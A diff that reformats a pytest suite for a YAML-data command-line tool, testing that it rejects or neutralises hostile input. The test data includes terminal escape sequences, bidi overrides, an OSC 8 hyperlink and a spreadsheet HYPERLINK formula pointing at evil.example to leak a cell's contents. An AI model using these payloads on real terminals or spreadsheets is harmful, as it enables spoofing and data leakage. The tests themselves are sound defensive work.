@@ -32,16 +32,16 @@ from pathlib import Path
 
 import pytest
 import yaml
+from conftest import flat, oscli_executable
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from conftest import flat, oscli_executable
-from outsourcing_cli.store import cache, validate
 from outsourcing_cli.domain import kinds, textsafe
+from outsourcing_cli.domain.search import MAX_QUERY
 from outsourcing_cli.present import render
+from outsourcing_cli.store import cache, validate
 from outsourcing_cli.store.load import read_files
 from outsourcing_cli.store.schema import ID_PATTERN
-from outsourcing_cli.domain.search import MAX_QUERY
 
 IS_ROOT = os.geteuid() == 0
 needs_root = pytest.mark.skipif(not IS_ROOT, reason="giving a file to another uid needs root (CI runs as root)")
@@ -60,12 +60,14 @@ def _env(remove=(), **extra: str) -> dict[str, str]:
     return env
 
 
-def _oscli(*args: str, cwd: Path, env: dict[str, str] | None = None, timeout: float = 60,
-           **kwargs) -> subprocess.CompletedProcess:
+def _oscli(
+    *args: str, cwd: Path, env: dict[str, str] | None = None, timeout: float = 60, **kwargs
+) -> subprocess.CompletedProcess:
     if "stdout" not in kwargs and "stderr" not in kwargs:
         kwargs["capture_output"] = True
-    return subprocess.run([oscli_executable(), *args], text=True, cwd=cwd, env=_env() if env is None else env,
-                          timeout=timeout, **kwargs)
+    return subprocess.run(
+        [oscli_executable(), *args], text=True, cwd=cwd, env=_env() if env is None else env, timeout=timeout, **kwargs
+    )
 
 
 def _xian(cwd: Path, data: Path, env: dict[str, str]) -> tuple[subprocess.CompletedProcess, str | None]:
@@ -109,8 +111,10 @@ def _payload(kind: str, genuine: bytes, marker: Path, rename_id: bool = False, n
     # a well-formed entry, sealed under the right name, with one false fact
     report = cache.decode(cache.opened(genuine, name), Path("data"))
     by_kind = {kind: report.base.of(kind) for kind in report.base.kinds()}
-    by_kind["city"] = tuple(city.replace(name=FALSE, **({"id": "pyongyang"} if rename_id else {}))
-                            if city.id == "xian" else city for city in by_kind["city"])
+    by_kind["city"] = tuple(
+        city.replace(name=FALSE, **({"id": "pyongyang"} if rename_id else {})) if city.id == "xian" else city
+        for city in by_kind["city"]
+    )
     assert FALSE in [city.name for city in by_kind["city"]]
     return cache.seal(cache.encode(Report(model.FactBase(by_kind), report.findings), Path("data")), name)
 
@@ -230,8 +234,15 @@ def test_a_cache_entry_someone_else_could_have_written_is_never_read(tmp_path, d
 
 def _complete(cwd: Path, env: dict[str, str], *words: str) -> list[str]:
     """Bash completion from the installed oscli, as the script of --install-completion asks for it."""
-    done = _oscli(cwd=cwd, env={**env, "_OSCLI_COMPLETE": "complete_bash", "COMP_WORDS": " ".join(("oscli",) + words),
-                                "COMP_CWORD": str(len(words))})
+    done = _oscli(
+        cwd=cwd,
+        env={
+            **env,
+            "_OSCLI_COMPLETE": "complete_bash",
+            "COMP_WORDS": " ".join(("oscli", *words)),
+            "COMP_CWORD": str(len(words)),
+        },
+    )
     assert done.returncode == 0, done.stderr
     return done.stdout.split()
 
@@ -333,8 +344,14 @@ print(json.dumps({"returncode": done.returncode, "stdout": done.stdout, "stderr"
 def _measured(*args: str, cwd: Path) -> dict:
     """Run oscli under a fresh interpreter that waits at most 20 s and reports the peak resident
     memory of that one child (RUSAGE_CHILDREN of this test's process would include every earlier one)."""
-    done = subprocess.run([sys.executable, "-c", _MEASURED, oscli_executable(), *args], capture_output=True,
-                          text=True, cwd=cwd, env=_env(), timeout=60)
+    done = subprocess.run(
+        [sys.executable, "-c", _MEASURED, oscli_executable(), *args],
+        capture_output=True,
+        text=True,
+        cwd=cwd,
+        env=_env(),
+        timeout=60,
+    )
     assert done.returncode == 0, f"oscli did not finish within 20 s: {done.stderr[-400:]}"
     return json.loads(done.stdout)
 
@@ -352,11 +369,15 @@ def _sparse_2gb(path: Path) -> None:
         handle.truncate(2 * 1024**3)
 
 
-@pytest.mark.parametrize("make, expected", [
-    (_fifo, "error OSC001 is a FIFO, not a regular file; a data file is a plain YAML file"),
-    (_dev_zero, "error OSC001 is a device, not a regular file; a data file is a plain YAML file"),
-    (_sparse_2gb, "error OSC007 file is 2,147,483,648 bytes; the limit is "),
-], ids=["fifo", "symlink-to-dev-zero", "sparse-2-gib"])
+@pytest.mark.parametrize(
+    "make, expected",
+    [
+        (_fifo, "error OSC001 is a FIFO, not a regular file; a data file is a plain YAML file"),
+        (_dev_zero, "error OSC001 is a device, not a regular file; a data file is a plain YAML file"),
+        (_sparse_2gb, "error OSC007 file is 2,147,483,648 bytes; the limit is "),
+    ],
+    ids=["fifo", "symlink-to-dev-zero", "sparse-2-gib"],
+)
 def test_a_file_that_would_hang_or_fill_memory_is_a_located_finding(tmp_path, data_copy, make, expected):
     (data_copy / "cities.yaml").unlink()
     make(data_copy / "cities.yaml")
@@ -381,15 +402,23 @@ def test_the_size_limit_is_16_mib_unless_raised_for_data_one_trusts(tmp_path, da
     assert f"data/cities.yaml:1:1: error OSC007 file is {size:,} bytes; the limit is 16,777,216" in refused.stdout
     raised = _oscli("--data-dir", str(data_copy), "check", cwd=tmp_path, env=_env(OSCLI_MAX_FILE_MIB="32"))
     assert raised.returncode == 0, raised.stdout + raised.stderr
-    listed = _oscli("--data-dir", str(data_copy), "cities", "list", "--json", cwd=tmp_path,
-                    env=_env(OSCLI_MAX_FILE_MIB="32"))
+    listed = _oscli(
+        "--data-dir", str(data_copy), "cities", "list", "--json", cwd=tmp_path, env=_env(OSCLI_MAX_FILE_MIB="32")
+    )
     assert "dalian" in [city["id"] for city in json.loads(listed.stdout)]
 
 
-@pytest.mark.parametrize("value, size, nodes", [
-    (None, 16 * 1024**2, 1_000_000), ("32", 32 * 1024**2, 2_000_000), ("1024", 1024**3, 64_000_000),
-    ("0", 16 * 1024**2, 1_000_000), ("8", 8 * 1024**2, 1_000_000), ("lots", 16 * 1024**2, 1_000_000),
-])
+@pytest.mark.parametrize(
+    "value, size, nodes",
+    [
+        (None, 16 * 1024**2, 1_000_000),
+        ("32", 32 * 1024**2, 2_000_000),
+        ("1024", 1024**3, 64_000_000),
+        ("0", 16 * 1024**2, 1_000_000),
+        ("8", 8 * 1024**2, 1_000_000),
+        ("lots", 16 * 1024**2, 1_000_000),
+    ],
+)
 def test_oscli_max_file_mib_raises_both_limits_and_never_lowers_the_nodes(monkeypatch, value, size, nodes):
     from outsourcing_cli.store import load
 
@@ -416,23 +445,31 @@ def _unsafe_char(char: str) -> bool:
     paragraph separators. (Spelt out from Unicode's own properties, not copied from textsafe.)"""
     if unicodedata.category(char) == "Cc":
         return char not in "\t\n"
-    return (unicodedata.bidirectional(char) in {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
-            or char in "\u061c\u200e\u200f\u2028\u2029")
+    return (
+        unicodedata.bidirectional(char) in {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
+        or char in "\u061c\u200e\u200f\u2028\u2029"
+    )
 
 
-@pytest.mark.parametrize("value, column, code", [
-    ('"Xi\'an\\e[2J"', 11, 0x1B),
-    ('"\\e]8;;https://evil.example/\\e\\\\Xi\'an\\e]8;;\\e\\\\"', 11, 0x1B),
-    ('"Xi\'an\\x9b2J"', 11, 0x9B),
-    ('"Xi\'an\\u202e"', 11, 0x202E),
-    ("Xi'an \u202ekcatta", 17, 0x202E),  # raw in the file, in a plain scalar: its exact column
-], ids=["csi", "osc8-hyperlink", "c1-csi", "bidi-escaped", "bidi-raw"])
+@pytest.mark.parametrize(
+    "value, column, code",
+    [
+        ('"Xi\'an\\e[2J"', 11, 0x1B),
+        ('"\\e]8;;https://evil.example/\\e\\\\Xi\'an\\e]8;;\\e\\\\"', 11, 0x1B),
+        ('"Xi\'an\\x9b2J"', 11, 0x9B),
+        ('"Xi\'an\\u202e"', 11, 0x202E),
+        ("Xi'an \u202ekcatta", 17, 0x202E),  # raw in the file, in a plain scalar: its exact column
+    ],
+    ids=["csi", "osc8-hyperlink", "c1-csi", "bidi-escaped", "bidi-raw"],
+)
 def test_a_control_or_bidi_character_in_the_data_is_a_located_error(tmp_path, data_copy, value, column, code):
     line = _set_xian_name(data_copy, value)
     done = _oscli("--data-dir", str(data_copy), "check", cwd=tmp_path)
     assert done.returncode == 1
-    assert (f"data/cities.yaml:{line}:{column}: error OSC107 'name' of city holds the control or "
-            f"bidirectional character U+{code:04X}; remove it") in done.stdout.splitlines()
+    assert (
+        f"data/cities.yaml:{line}:{column}: error OSC107 'name' of city holds the control or "
+        f"bidirectional character U+{code:04X}; remove it"
+    ) in done.stdout.splitlines()
 
 
 def _hostile_data(data: Path) -> None:
@@ -441,7 +478,9 @@ def _hostile_data(data: Path) -> None:
     path = data / "cities.yaml"
     text = path.read_text(encoding="utf-8")
     text = text.replace("    name: Dalian\n", '    name: Dalian\n    "na\\e[2Jme\\u202e": x\n', 1)
-    text = text.replace("    name: Xi'an\n", '    name: "\\e]8;;https://evil.example/\\e\\\\Xi\'an\\e]8;;\\e\\\\\\e[2J"\n', 1)
+    text = text.replace(
+        "    name: Xi'an\n", '    name: "\\e]8;;https://evil.example/\\e\\\\Xi\'an\\e]8;;\\e\\\\\\e[2J"\n', 1
+    )
     text = text.replace("    name: Chengdu\n", '    name: "Cheng\\x9b2Jdu"\n', 1)
     text = text.replace("    name: Shanghai\n", '    name: "Shang\\u202ehai"\n', 1)
     path.write_text(text, encoding="utf-8")
@@ -455,8 +494,9 @@ def _in_a_terminal(args: list[str], cwd: Path, env: dict[str, str]) -> tuple[int
 
     leader, follower = os.openpty()
     fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 160, 0, 0))
-    proc = subprocess.Popen(args, stdin=follower, stdout=follower, stderr=follower, cwd=cwd, env=env,
-                            start_new_session=True)
+    proc = subprocess.Popen(
+        args, stdin=follower, stdout=follower, stderr=follower, cwd=cwd, env=env, start_new_session=True
+    )
     os.close(follower)
     received = []
     deadline = time.monotonic() + 60
@@ -479,12 +519,15 @@ def _in_a_terminal(args: list[str], cwd: Path, env: dict[str, str]) -> tuple[int
         os.close(leader)
 
 
-@pytest.mark.parametrize("args, exit_code", [
-    (["check"], 1),
-    (["cities", "list"], 3),
-    (["cities", "show", "xian"], 3),
-    (["search", "xian"], 3),
-])
+@pytest.mark.parametrize(
+    "args, exit_code",
+    [
+        (["check"], 1),
+        (["cities", "list"], 3),
+        (["cities", "show", "xian"], 3),
+        (["search", "xian"], 3),
+    ],
+)
 def test_no_escape_sequence_from_the_data_reaches_a_terminal(tmp_path, data_copy, args, exit_code):
     _hostile_data(data_copy)
     env = _env(TERM="xterm-256color", COLUMNS="160")
@@ -503,16 +546,26 @@ def test_no_format_of_check_carries_a_control_character_from_the_data(tmp_path, 
     """An unknown key is quoted in the finding's message: escaped there, so that CSV and YAML,
     which have no escapes of their own for it, cannot carry it either."""
     _hostile_data(data_copy)
-    done = _oscli("--data-dir", str(data_copy), "check", "--format", fmt, cwd=tmp_path,
-                  env=_env(FORCE_COLOR="1") if fmt == "table" else None)
+    done = _oscli(
+        "--data-dir",
+        str(data_copy),
+        "check",
+        "--format",
+        fmt,
+        cwd=tmp_path,
+        env=_env(FORCE_COLOR="1") if fmt == "table" else None,
+    )
     assert done.returncode == 1
     body = re.sub("\x1b\\[[0-9;]*m", "", done.stdout) if fmt == "table" else done.stdout
     assert not [c for c in body if _unsafe_char(c) and c not in "\r"], fmt
     assert "na\\x1b[2Jme\\u202e" in body.replace("\\\\", "\\")
 
 
-_TEXT = st.text(alphabet=st.one_of(st.characters(), st.sampled_from(
-    list("\x1b\x9b\u202e\u2066\u200f\u2028\x07\x00\t\n\r\x7f\x85[]0123456789;m"))))
+_TEXT = st.text(
+    alphabet=st.one_of(
+        st.characters(), st.sampled_from(list("\x1b\x9b\u202e\u2066\u200f\u2028\x07\x00\t\n\r\x7f\x85[]0123456789;m"))
+    )
+)
 
 
 @_UNTIMED
@@ -549,7 +602,9 @@ def test_json_escapes_every_unsafe_character_of_the_basic_plane_and_nothing_else
     for code in [*range(0x20, 0xD800), *range(0xE000, 0x10000), 0x1F600, 0xE0001, 0x10FFFF]:
         char = chr(code)
         escaped = textsafe.json_safe(json.dumps(char, ensure_ascii=False))
-        assert (escaped == json.dumps(char)) if _unsafe_char(char) else (escaped == f'"{char}"' or char in '"\\'), hex(code)
+        assert (escaped == json.dumps(char)) if _unsafe_char(char) else (escaped == f'"{char}"' or char in '"\\'), hex(
+            code
+        )
 
 
 # -- 5, 6. search: YAML output, and a query that looks like Rich markup -----------------------------
@@ -560,8 +615,14 @@ def test_search_writes_yaml_equal_to_its_json(tmp_path):
     as_json = _oscli("search", "suzhou", "--json", cwd=tmp_path)
     assert (as_yaml.returncode, as_yaml.stderr) == (0, "")
     assert yaml.safe_load(as_yaml.stdout) == json.loads(as_json.stdout)
-    assert yaml.safe_load(as_yaml.stdout)[0] == {"type": "city", "id": "suzhou", "field": "name",
-                                                 "snippet": "Suzhou", "score": 100, "match": "exact"}
+    assert yaml.safe_load(as_yaml.stdout)[0] == {
+        "type": "city",
+        "id": "suzhou",
+        "field": "name",
+        "snippet": "Suzhou",
+        "score": 100,
+        "match": "exact",
+    }
 
 
 # ("[/i]" finds the word I since issue 18's sources name "Article I"; "[/u]" finds nothing)
@@ -585,13 +646,14 @@ def test_a_query_that_looks_like_markup_is_shown_as_typed(tmp_path, query, exit_
 
 def test_an_id_with_a_trailing_newline_is_refused(tmp_path, data_copy):
     path = data_copy / "cities.yaml"
-    path.write_text(path.read_text(encoding="utf-8").replace("  - id: xian\n", '  - id: "xian\\n"\n'),
-                    encoding="utf-8")
+    path.write_text(path.read_text(encoding="utf-8").replace("  - id: xian\n", '  - id: "xian\\n"\n'), encoding="utf-8")
     line = _line_of(path, '  - id: "xian\\n"')
     done = _oscli("--data-dir", str(data_copy), "check", cwd=tmp_path)
     assert done.returncode == 1
-    assert (f"data/cities.yaml:{line}:9: error OSC106 'id' of city 'xian\\n' must be lower-case letters, "
-            "digits and hyphens; try 'xian'") in done.stdout.splitlines()
+    assert (
+        f"data/cities.yaml:{line}:9: error OSC106 'id' of city 'xian\\n' must be lower-case letters, "
+        "digits and hyphens; try 'xian'"
+    ) in done.stdout.splitlines()
     listing = _oscli("--data-dir", str(data_copy), "cities", "list", cwd=tmp_path)
     assert listing.returncode == 3 and "error OSC106" in listing.stderr
 
@@ -620,10 +682,22 @@ def test_pruning_removes_only_oscli_s_own_files(tmp_path, data_copy):
     folder = tmp_path / "cache"
     folder.mkdir(mode=0o700)
     long_ago = time.time() - 10 * cache.STALE
-    users = ([f"{n:064x}.pickle" for n in range(12)] + [f"model-{n}.pickle" for n in range(6)]
-             + [f"{n:064x}.json" for n in range(3)] + ["notes.json", "settings.json", "results.json"]
-             + [f"{1:063x}.oscli.json", f"{'AB' * 32}.oscli.json", f"{2:064x}.oscli.json.bak",
-                ".tmp-oscli-mine", "tmp-oscli-1a-2b", ".tmp-oscli-1a-2b.keep", "README", "data.csv"])
+    users = (
+        [f"{n:064x}.pickle" for n in range(12)]
+        + [f"model-{n}.pickle" for n in range(6)]
+        + [f"{n:064x}.json" for n in range(3)]
+        + ["notes.json", "settings.json", "results.json"]
+        + [
+            f"{1:063x}.oscli.json",
+            f"{'AB' * 32}.oscli.json",
+            f"{2:064x}.oscli.json.bak",
+            ".tmp-oscli-mine",
+            "tmp-oscli-1a-2b",
+            ".tmp-oscli-1a-2b.keep",
+            "README",
+            "data.csv",
+        ]
+    )
     assert len(users) == 32
     for name in users:
         (folder / name).write_text(f"the user's {name}\n", encoding="utf-8")
@@ -632,7 +706,7 @@ def test_pruning_removes_only_oscli_s_own_files(tmp_path, data_copy):
     elsewhere.write_text("kept\n", encoding="utf-8")
     (folder / f"{3:064x}.oscli.json").symlink_to(elsewhere)  # an entry's name, but not a regular file
     for n in range(20):  # old entries of oscli's own: pruned beyond KEEP
-        own = folder / f"{0xe0 + n:064x}.oscli.json"
+        own = folder / f"{0xE0 + n:064x}.oscli.json"
         own.write_text("{}", encoding="utf-8")
         os.utime(own, (long_ago + n, long_ago + n))
     stale = folder / ".tmp-oscli-1f2e-3d4c5b6a7f80"  # a killed run's
@@ -655,9 +729,17 @@ def test_pruning_removes_only_oscli_s_own_files(tmp_path, data_copy):
 
 # -- 9. standard output that cannot be written; no home directory -----------------------------------
 
-WRITING_COMMANDS = [["cities", "list"], ["cities", "list", "--json"], ["cities", "list", "--format", "csv"],
-                    ["policy", "show", "11th-fyp", "--format", "table"], ["search", "suzhou"], ["check"],
-                    ["cite", "11th-fyp"], ["--version"], ["--help"]]
+WRITING_COMMANDS = [
+    ["cities", "list"],
+    ["cities", "list", "--json"],
+    ["cities", "list", "--format", "csv"],
+    ["policy", "show", "11th-fyp", "--format", "table"],
+    ["search", "suzhou"],
+    ["check"],
+    ["cite", "11th-fyp"],
+    ["--version"],
+    ["--help"],
+]
 _IDS = [" ".join(c) for c in WRITING_COMMANDS]
 
 
@@ -671,8 +753,14 @@ def test_a_full_disk_is_exit_74_and_one_line(tmp_path, args):
 
 @pytest.mark.parametrize("args", WRITING_COMMANDS, ids=_IDS)
 def test_a_closed_standard_output_is_exit_74_and_one_line(tmp_path, args):
-    done = subprocess.run(["sh", "-c", '"$@" >&-', "sh", oscli_executable(), *args], capture_output=True,
-                          text=True, cwd=tmp_path, env=_env(), timeout=60)
+    done = subprocess.run(
+        ["sh", "-c", '"$@" >&-', "sh", oscli_executable(), *args],
+        capture_output=True,
+        text=True,
+        cwd=tmp_path,
+        env=_env(),
+        timeout=60,
+    )
     assert done.returncode == 74
     assert len(done.stderr.splitlines()) == 1 and done.stderr.startswith("oscli: cannot write")
     assert "bug" not in done.stderr
@@ -687,8 +775,10 @@ def _uid_without_passwd_entry() -> int:
     pytest.skip("no free uid")
 
 
-@pytest.mark.skipif(not IS_ROOT or not shutil.which("setpriv"),
-                    reason="running as a uid without a passwd entry needs root and setpriv (CI runs as root)")
+@pytest.mark.skipif(
+    not IS_ROOT or not shutil.which("setpriv"),
+    reason="running as a uid without a passwd entry needs root and setpriv (CI runs as root)",
+)
 def test_without_a_home_directory_the_cache_is_simply_off(tmp_path):
     """No HOME and no passwd entry for the uid (a container's arbitrary uid): Path.home() fails.
     The cache is off, and nothing is made in the working directory. (setpriv, not os.setuid in
@@ -698,9 +788,24 @@ def test_without_a_home_directory_the_cache_is_simply_off(tmp_path):
     try:
         os.chown(work, uid, uid)
         env = _env(remove=("HOME", "OSCLI_CACHE_DIR", "XDG_CACHE_HOME"), OSCLI_DEBUG="1")
-        done = subprocess.run(["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", oscli_executable(),
-                               "cities", "show", "xian", "--json"], capture_output=True, text=True, cwd=work,
-                              env=env, timeout=60)
+        done = subprocess.run(
+            [
+                "setpriv",
+                f"--reuid={uid}",
+                f"--regid={uid}",
+                "--clear-groups",
+                oscli_executable(),
+                "cities",
+                "show",
+                "xian",
+                "--json",
+            ],
+            capture_output=True,
+            text=True,
+            cwd=work,
+            env=env,
+            timeout=60,
+        )
         assert done.returncode == 0, done.stderr
         assert json.loads(done.stdout)["name"] == XIAN
         assert done.stderr == "oscli: cache: off: no home directory to keep it in (set OSCLI_CACHE_DIR to choose one)\n"
@@ -711,12 +816,23 @@ def test_without_a_home_directory_the_cache_is_simply_off(tmp_path):
 
 # -- 10. closed pipes, Ctrl-C, a killed cache write ------------------------------------------------
 
-PIPED_COMMANDS = [[k.command, verb, *([k.example] if verb == "show" else []), "--format", fmt]
-                  for k in kinds.KINDS.values() for verb in ("list", "show")
-                  for fmt in ("table", "plain", "json", "ndjson", "csv", "yaml")]
-PIPED_COMMANDS += [["search", "suzhou", "--format", "table"], ["search", "suzhou"], ["check"],
-                   ["check", "--format", "table"], ["check", "--rules", "--format", "table"], ["cite", "--all"],
-                   ["--help"], ["cities", "list", "--help"], ["--version"]]
+PIPED_COMMANDS = [
+    [k.command, verb, *([k.example] if verb == "show" else []), "--format", fmt]
+    for k in kinds.KINDS.values()
+    for verb in ("list", "show")
+    for fmt in ("table", "plain", "json", "ndjson", "csv", "yaml")
+]
+PIPED_COMMANDS += [
+    ["search", "suzhou", "--format", "table"],
+    ["search", "suzhou"],
+    ["check"],
+    ["check", "--format", "table"],
+    ["check", "--rules", "--format", "table"],
+    ["cite", "--all"],
+    ["--help"],
+    ["cities", "list", "--help"],
+    ["--version"],
+]
 
 
 def _into_a_closed_pipe(args: list[str], cwd: Path) -> subprocess.CompletedProcess:
@@ -732,20 +848,32 @@ def _into_a_closed_pipe(args: list[str], cwd: Path) -> subprocess.CompletedProce
 def test_every_command_into_a_closed_pipe_ends_quietly(tmp_path):
     with ThreadPoolExecutor(max_workers=4) as pool:
         results = list(pool.map(lambda args: (args, _into_a_closed_pipe(args, tmp_path)), PIPED_COMMANDS))
-    failed = [(" ".join(args), done.returncode, done.stderr) for args, done in results
-              if (done.returncode, done.stderr) != (0, "")]
+    failed = [
+        (" ".join(args), done.returncode, done.stderr)
+        for args, done in results
+        if (done.returncode, done.stderr) != (0, "")
+    ]
     assert failed == []
 
 
-@pytest.mark.parametrize("pipeline, first_line", [
-    ("oscli cities list --format table | true", None),
-    ("oscli --help | head -1", "Usage: oscli [OPTIONS] COMMAND [ARGS]..."),
-    ("oscli cities list | head -1", "ID\tName\tChinese\tProvince\tPrimary"),
-])
+@pytest.mark.parametrize(
+    "pipeline, first_line",
+    [
+        ("oscli cities list --format table | true", None),
+        ("oscli --help | head -1", "Usage: oscli [OPTIONS] COMMAND [ARGS]..."),
+        ("oscli cities list | head -1", "ID\tName\tChinese\tProvince\tPrimary"),
+    ],
+)
 def test_a_reader_that_stops_early_ends_oscli_quietly(tmp_path, pipeline, first_line):
     script = pipeline.replace("oscli", shlex.quote(oscli_executable()), 1).replace(" |", ' 2>"$ERR" |', 1)
-    done = subprocess.run(["bash", "-c", script + '; echo "status ${PIPESTATUS[0]}"'], capture_output=True,
-                          text=True, cwd=tmp_path, env=_env(ERR=str(tmp_path / "err"), COLUMNS="120"), timeout=60)
+    done = subprocess.run(
+        ["bash", "-c", script + '; echo "status ${PIPESTATUS[0]}"'],
+        capture_output=True,
+        text=True,
+        cwd=tmp_path,
+        env=_env(ERR=str(tmp_path / "err"), COLUMNS="120"),
+        timeout=60,
+    )
     lines = done.stdout.splitlines()
     assert lines[-1] == "status 0"
     assert (tmp_path / "err").read_text() == ""
@@ -797,8 +925,14 @@ def test_ctrl_c_during_start_up_exits_130_without_a_traceback(tmp_path):
     listing = _oscli("cities", "list", cwd=tmp_path).stdout
     outcomes = []
     for delay_ms in (0, 2, 5, 10, 15, 20, 30, 45):
-        proc = subprocess.Popen([oscli_executable(), "cities", "list"], stdout=subprocess.PIPE,
-                                stderr=subprocess.PIPE, text=True, cwd=tmp_path, env=_env())
+        proc = subprocess.Popen(
+            [oscli_executable(), "cities", "list"],
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+            cwd=tmp_path,
+            env=_env(),
+        )
         if not (marker and _wait_until_mapped(proc.pid, marker)):
             time.sleep(2 * preamble)
         time.sleep(delay_ms / 1000)
@@ -830,8 +964,9 @@ def test_a_temporary_file_left_by_a_killed_cache_write_is_removed_by_a_later_run
 # -- 11. CSV cells a spreadsheet would run as formulas ----------------------------------------------
 
 
-@pytest.mark.parametrize("name", ['=HYPERLINK("https://evil.example/?q="&A1,"Xi\'an")', "+1+1", "-2+3",
-                                  "@SUM(A1:A2)", "\tXi'an"])
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("https://evil.example/?q="&A1,"Xi\'an")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tXi'an"]
+)
 def test_a_csv_cell_that_would_be_a_formula_is_neutralised(tmp_path, data_copy, name):
     _set_xian_name(data_copy, json.dumps(name))  # a JSON string is a YAML double-quoted scalar
     assert _oscli("--data-dir", str(data_copy), "check", cwd=tmp_path).returncode == 0  # valid data
@@ -840,8 +975,12 @@ def test_a_csv_cell_that_would_be_a_formula_is_neutralised(tmp_path, data_copy, 
     rows = list(csv.DictReader(io.StringIO(done.stdout.lstrip("\ufeff"), newline="")))
     (xian,) = [r for r in rows if r["id"] == "xian"]
     assert xian["name"] == "'" + name
-    assert json.loads(_oscli("--data-dir", str(data_copy), "cities", "show", "xian", "--json",
-                             cwd=tmp_path).stdout)["name"] == name  # the data formats keep it exact
+    assert (
+        json.loads(_oscli("--data-dir", str(data_copy), "cities", "show", "xian", "--json", cwd=tmp_path).stdout)[
+            "name"
+        ]
+        == name
+    )  # the data formats keep it exact
 
 
 # -- 12. a relative XDG_CACHE_HOME -----------------------------------------------------------------
@@ -882,8 +1021,9 @@ def test_a_query_of_the_limit_is_searched(tmp_path):
 def _generate(times: int, target: Path) -> None:
     import importlib.util
 
-    spec = importlib.util.spec_from_file_location("generate", Path(__file__).resolve().parent.parent / "bench"
-                                                  / "generate.py")
+    spec = importlib.util.spec_from_file_location(
+        "generate", Path(__file__).resolve().parent.parent / "bench" / "generate.py"
+    )
     module = importlib.util.module_from_spec(spec)
     spec.loader.exec_module(module)
     module.generate(times, target)
@@ -894,7 +1034,6 @@ def test_many_unknown_references_are_checked_in_bounded_time(tmp_path):
     that was quadratic: the 100x base with its sources renamed took 37 s. Now suggestions stop
     once rules.COMPARED ids have been compared, and every unknown reference is still reported."""
     from outsourcing_cli.domain import rules
-
     from outsourcing_cli.domain.kinds import citations
     from outsourcing_cli.store.load import load
 
@@ -903,8 +1042,7 @@ def test_many_unknown_references_are_checked_in_bounded_time(tmp_path):
     base = load(data).base
     cited = sum(1 for record in base.records() for _ in citations(record))  # every one will be unknown
     sources = data / "sources.yaml"
-    sources.write_text(re.sub(r"(?m)^- id: ", "- id: renamed-", sources.read_text(encoding="utf-8")),
-                       encoding="utf-8")
+    sources.write_text(re.sub(r"(?m)^- id: ", "- id: renamed-", sources.read_text(encoding="utf-8")), encoding="utf-8")
     done = _measured("--data-dir", str(data), "check", cwd=tmp_path)
     assert done["returncode"] == 1
     unknown = [line for line in done["stdout"].splitlines() if " error OSC204 " in line]
@@ -922,8 +1060,10 @@ def test_a_file_of_many_bad_lines_stops_after_the_first_thousand_findings(tmp_pa
     found = [line for line in done["stdout"].splitlines() if line.startswith("data/cities.yaml:")]
     assert len(found) == MAX_PER_FILE + 1
     assert found[0] == "data/cities.yaml:2:5: error OSC103 a city record must be a mapping, not text"
-    assert found[-1] == (f"data/cities.yaml:{MAX_PER_FILE + 2}:5: error OSC007 more than {MAX_PER_FILE:,} "
-                         "problems in this file; the rest is not checked (fix these first)")
+    assert found[-1] == (
+        f"data/cities.yaml:{MAX_PER_FILE + 2}:5: error OSC007 more than {MAX_PER_FILE:,} "
+        "problems in this file; the rest is not checked (fix these first)"
+    )
     assert done["peak_kib"] < 300 * 1024
 
 
@@ -935,6 +1075,8 @@ def test_a_file_of_too_many_nodes_is_refused_where_the_limit_is_reached(tmp_path
     assert done["returncode"] == 1
     # at the node one beyond the limit: the first item is the sixth event (after the stream, the
     # document, the mapping, its key and the list) at column 10, and each item takes two columns
-    assert (f"data/cities.yaml:1:{10 + 2 * (MAX_EVENTS + 1 - 6)}: error OSC007 more than {MAX_EVENTS:,} YAML nodes"
-            in done["stdout"].splitlines())
+    assert (
+        f"data/cities.yaml:1:{10 + 2 * (MAX_EVENTS + 1 - 6)}: error OSC007 more than {MAX_EVENTS:,} YAML nodes"
+        in done["stdout"].splitlines()
+    )
     assert done["peak_kib"] < 400 * 1024
